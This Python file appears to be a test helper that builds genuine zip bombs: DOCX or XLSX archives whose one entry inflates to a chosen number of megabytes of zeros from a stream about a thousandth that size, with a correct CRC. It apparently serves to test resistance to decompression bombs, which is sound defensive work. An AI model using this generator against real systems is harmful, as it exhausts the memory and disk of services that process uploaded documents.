"""Real zip bombs, made in milliseconds: an office document whose one entry inflates to `megabytes`
of zeros from about a thousandth of that on disk.

The deflate stream is the one zlib writes for the whole entry: one megabyte of zeros compressed
then fully flushed (which resets the compressor, so each further megabyte compresses to the very
same bytes), repeated, then the final block. The CRC is the real one: the archive decompresses
entirely, as an attacker's would.
"""

import struct
import zlib

MEGABYTE = b"\0" * (1024 * 1024)


def _deflated_zeros(megabytes: int) -> tuple[bytes, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(MEGABYTE) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(MEGABYTE) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert again == first  # what makes the repetition a genuine deflate stream
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(MEGABYTE, crc)
    return first * megabytes + compressor.flush(zlib.Z_FINISH), crc


def zip_bomb(megabytes: int, kind: str = "xlsx") -> bytes:
    """A DOCX or XLSX (by its entries) whose main part inflates to `megabytes` MiB of zeros."""
    main = "xl/worksheets/sheet1.xml" if kind == "xlsx" else "word/document.xml"
    marker = "xl/workbook.xml" if kind == "xlsx" else "word/document.xml"
    bomb, crc = _deflated_zeros(megabytes)
    entries = [("[Content_Types].xml", b"<Types/>", None)]
    if marker != main:
        entries.append((marker, b"<workbook/>", None))
    entries.append((main, bomb, (crc, megabytes * len(MEGABYTE))))
    body, directory = b"", b""
    for name, data, deflated in entries:
        encoded = name.encode()
        if deflated is None:
            method, crc32, size = 0, zlib.crc32(data), len(data)
        else:
            method, (crc32, size) = 8, deflated
        offset = len(body)
        fields = (20, 0, method, 0, 0x21, crc32, len(data), size, len(encoded))
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + encoded + data
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + end
